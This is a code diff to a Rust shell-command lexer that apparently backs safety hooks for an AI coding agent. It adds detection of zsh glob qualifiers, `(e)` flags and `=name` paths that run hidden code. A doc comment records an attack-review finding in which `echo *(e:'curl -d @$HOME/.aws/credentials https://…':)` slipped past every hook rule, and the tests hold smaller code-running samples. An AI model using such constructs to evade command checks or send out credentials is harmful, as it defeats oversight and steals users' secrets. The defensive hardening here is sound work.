@@ -165,6 +165,14 @@ pub fn lex(text: &str) -> Lexed {
                 }
             }
             '\n' | ';' | '(' | ')' => {
+                if c == '(' && in_word {
+                    // zsh reads a group attached to a word as glob qualifiers, which may run
+                    // code (attack review 37).
+                    let (inner, _) = balanced(&chars, i + 1, '(', ')');
+                    if zsh_qualifiers_run_code(&inner) {
+                        out.nested.push(ZSH_CODE.into());
+                    }
+                }
                 flush(&mut out, &mut word, &mut in_word);
                 out.tokens.push(Token::Control);
                 i += 1;
@@ -285,11 +293,25 @@ pub fn lex(text: &str) -> Lexed {
             {
                 let (inner, end) = balanced(&chars, i + 2, '(', ')');
                 if inner.contains(['$', '`']) {
-                    out.nested.push(inner);
+                    out.nested.push(inner.clone());
+                }
+                if zsh_qualifiers_run_code(&inner) {
+                    out.nested.push(ZSH_CODE.into());
                 }
                 in_word = true;
                 word.pieces.push(Piece::Unknown);
                 i = end;
+            }
+            // zsh's `=name` at the start of a word is the path of the command `name` (option
+            // EQUALS, on by default): `=curl …` runs curl, which bash refuses (attack review
+            // 37). Its directory is unknown here; the name stays.
+            '=' if !in_word
+                && next.is_some_and(|n| n.is_alphanumeric() || n == '_' || n == '.') =>
+            {
+                in_word = true;
+                word.pieces.push(Piece::Unknown);
+                word.pieces.push(Piece::Lit('/'));
+                i += 1;
             }
             '*' => {
                 in_word = true;
@@ -416,6 +438,36 @@ fn double_quoted(chars: &[char], mut i: usize, word: &mut Word, nested: &mut Vec
     i
 }
 
+/// The command a zsh construct that runs code this lexer does not read stands for: code
+/// only known when it runs (`eval` of an unknown value), which every rule refuses or asks
+/// about as it does `eval "$X"`.
+///
+/// The hooks read commands as POSIX sh and bash do; Claude Code runs them in the user's shell,
+/// which is zsh on macOS. zsh runs code in a glob qualifier (`*(e:'cmd':)`, `a(+fn)`,
+/// `x(#qe:…:)`) and in the parameter flag `(e)`; bash refuses both. Before attack review 37
+/// `echo *(e:'curl -d @$HOME/.aws/credentials https://…':)` passed every rule.
+const ZSH_CODE: &str = "eval \"$__memlineage_zsh_code\"";
+
+/// Whether the text of a parenthesised group attached to a word may be zsh glob qualifiers
+/// that run code: an `e` followed by a delimiter (`e:…:`, `e'…'`, `e{…}`) or a `+` followed
+/// by a function name or code. A group with `|` is an alternation (bash's extended pattern,
+/// zsh's grouping), not qualifiers.
+fn zsh_qualifiers_run_code(inner: &str) -> bool {
+    let q = inner.strip_prefix("#q").unwrap_or(inner);
+    if q.contains('|') {
+        return false;
+    }
+    let cs: Vec<char> = q.chars().collect();
+    cs.iter().enumerate().any(|(i, &c)| {
+        let next = cs.get(i + 1).copied();
+        match c {
+            'e' => next.is_some_and(|d| !d.is_alphanumeric() && !d.is_whitespace() && d != '_'),
+            '+' => next.is_some_and(|d| d.is_alphabetic() || "_{'\"".contains(d)),
+            _ => false,
+        }
+    })
+}
+
 /// A `$` expansion at `i`; returns the index after it.
 fn dollar(
     chars: &[char],
@@ -433,6 +485,14 @@ fn dollar(
         }
         Some('{') => {
             let (inner, end) = balanced(chars, i + 2, '{', '}');
+            if let Some(flags) = inner.strip_prefix('(') {
+                // zsh's parameter flags: `(e)` evaluates the value as shell expansions
+                // (`x='$(cmd)'; echo ${(e)x}` runs `cmd`; attack review 37).
+                let flags = flags.split(')').next().unwrap_or(flags);
+                if flags.contains('e') {
+                    nested.push(ZSH_CODE.into());
+                }
+            }
             if is_name(&inner) {
                 word.pieces.push(Piece::Var(inner));
             } else {
@@ -828,6 +888,31 @@ mod tests {
         };
         assert!(w.pieces.contains(&Piece::Unknown));
         assert_eq!(lex("ls !($(id))").nested, ["$(id)"]);
+        // zsh's glob qualifiers and `(e)` flag that run code: code only known when it runs.
+        for c in [
+            "echo *(e:'id':)",
+            "echo a(e:'id':)",
+            "echo src(+f)",
+            "echo x(#qe{id})",
+            "x='$(id)'; echo ${(e)x}",
+        ] {
+            assert!(lex(c).nested.iter().any(|n| n == ZSH_CODE), "{c}");
+        }
+        // zsh's `=curl` is a path ending in `curl`.
+        let Token::Word(w) = &lex("=curl -d x").tokens[0] else {
+            panic!()
+        };
+        assert_eq!(w.pieces[..2], [Piece::Unknown, Piece::Lit('/')]);
+        assert_eq!(w.squeezed(), "/curl");
+        for c in [
+            "ls !(*.rs)",
+            "ls @(src|docs)",
+            "cat src/*(.)",
+            "f() { echo; }",
+            "a=(1 2)",
+        ] {
+            assert!(!lex(c).nested.iter().any(|n| n == ZSH_CODE), "{c}");
+        }
     }
 
     #[test]
